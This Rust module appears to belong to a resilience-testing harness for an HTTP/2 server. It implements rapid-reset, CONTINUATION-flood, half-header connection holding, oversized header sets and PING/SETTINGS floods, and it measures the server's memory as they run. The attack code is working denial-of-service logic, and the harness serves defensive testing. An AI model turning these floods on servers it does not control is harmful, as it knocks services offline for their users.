//! HTTP/2 frames that no ordinary client sends.

use std::net::Ipv4Addr;

use futures::future::join_all;

use super::eviction_requests::{Findings, no_findings};
use crate::attack::Attack;
use crate::client::{RawFrames, fields};
use crate::context::{ATTACKER_ADDRESS, AttackContext};

/// Connections at a time.
const LANES: usize = 8;
/// Addresses with half heads, and connections from each: no more than may begin a handshake in a second.
const HALF: (u8, usize) = (16, 60);
/// Fields of a half head: they are nearly as long as a head may be, by HTTP/2's own count (RFC 9113, section 6.5.2).
const FIELDS: usize = 1_600;

/// The attacks of this module.
pub fn all() -> Vec<Attack> {
    vec![
        Attack::new("rapid-reset", "streams that are reset as soon as they are open", |f| {
            Box::pin(rapid_reset(f))
        }),
        Attack::new("continuation-flood", "header blocks that never end", |f| Box::pin(continuation(f))),
        Attack::new("half-heads", "960 connections of one tenant with heads that never end", |f| {
            Box::pin(half_heads(f))
        }),
        Attack::new("many-fields", "requests with thousands of header fields", |f| Box::pin(many_fields(f))),
        Attack::new("control-flood", "PING and SETTINGS whose answers nobody reads", |f| {
            Box::pin(control(f))
        }),
    ]
}

async fn rapid_reset(context: AttackContext) -> Findings {
    let block = block(&context, &[]);
    each(&context, move |context| {
        let block = block.clone();
        async move {
            let mut frames = open(&context).await?.listen();
            for stream in (1..200_001).step_by(2) {
                frames.request(stream, &block).await?;
                frames.cancel(stream).await?;
                context.count("reset");
            }
            Ok(())
        }
    })
    .await
}

async fn continuation(context: AttackContext) -> Findings {
    let long = "x".repeat(1 << 20);
    let block = block(&context, &[("x", &long)]);
    each(&context, move |context| {
        let block = block.clone();
        async move {
            let mut frames = open(&context).await?.listen();
            frames.long_request(1, &block, false).await?;
            context.count("block");
            for _ in 0..64 {
                frames.more(1, &block).await?;
            }
            frames.flush().await
        }
    })
    .await
}

/// Each connection first sends a whole request, so that the server knows its tenant.
async fn half_heads(context: AttackContext) -> Findings {
    let whole = block(&context, &[]);
    let names: Vec<String> = (0..FIELDS).map(|at| format!("h{at}")).collect();
    let more: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "")).collect();
    let half = block(&context, &more);
    let before = context.setup.resident();
    let held = join_all((0..HALF.0).map(|at| from_address(&context, at, &whole, &half))).await;
    context.wait().await;
    let more = context.setup.resident().saturating_sub(before);
    context.say(format!("the server took {more} MiB more"));
    drop(held);
    no_findings()
}

async fn from_address(context: &AttackContext, at: u8, whole: &[u8], half: &[u8]) -> Vec<RawFrames> {
    let (from, mut held) = (Ipv4Addr::new(127, 0, 1, at), Vec::new());
    for _ in 0..HALF.1 {
        let opened = async {
            let mut frames = RawFrames::open(&context.setup.direct, from, &[]).await?.listen();
            frames.request(1, whole).await?;
            frames.long_request(3, half, false).await?;
            frames.flush().await?;
            anyhow::Ok(frames)
        };
        match opened.await {
            Ok(frames) => {
                context.count("half");
                held.push(frames);
            }
            Err(_) => context.count("broken"),
        }
    }
    held
}

async fn many_fields(context: AttackContext) -> Findings {
    let names: Vec<String> = (0..4_000).map(|at| format!("h{at}")).collect();
    let more: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "v")).collect();
    let block = block(&context, &more);
    each(&context, move |context| {
        let block = block.clone();
        async move {
            let mut frames = open(&context).await?.listen();
            for stream in (1..2_001).step_by(2) {
                frames.long_request(stream, &block, true).await?;
                context.count("request");
            }
            frames.flush().await
        }
    })
    .await
}

async fn control(context: AttackContext) -> Findings {
    each(&context, move |context| async move {
        let mut frames = open(&context).await?;
        loop {
            frames.ping().await?;
            frames.settings().await?;
            context.count("frame");
        }
    })
    .await
}

async fn each<F>(
    context: &AttackContext,
    attack: impl Fn(AttackContext) -> F + Send + Sync + 'static,
) -> Findings
where
    F: Future<Output = anyhow::Result<()>> + Send,
{
    let own = context.clone();
    context.repeat(LANES, move |_, _| attack(own.clone())).await;
    no_findings()
}

async fn open(context: &AttackContext) -> anyhow::Result<RawFrames> {
    RawFrames::open(&context.setup.direct, ATTACKER_ADDRESS, &[]).await
}

fn block(context: &AttackContext, more: &[(&str, &str)]) -> Vec<u8> {
    let authorization = format!("Bearer {}", context.tenant.account().token);
    let mut all = vec![("authorization", authorization.as_str())];
    all.extend(more);
    fields(&context.setup.direct.authority(), &context.tenant.requests(), &all)
}
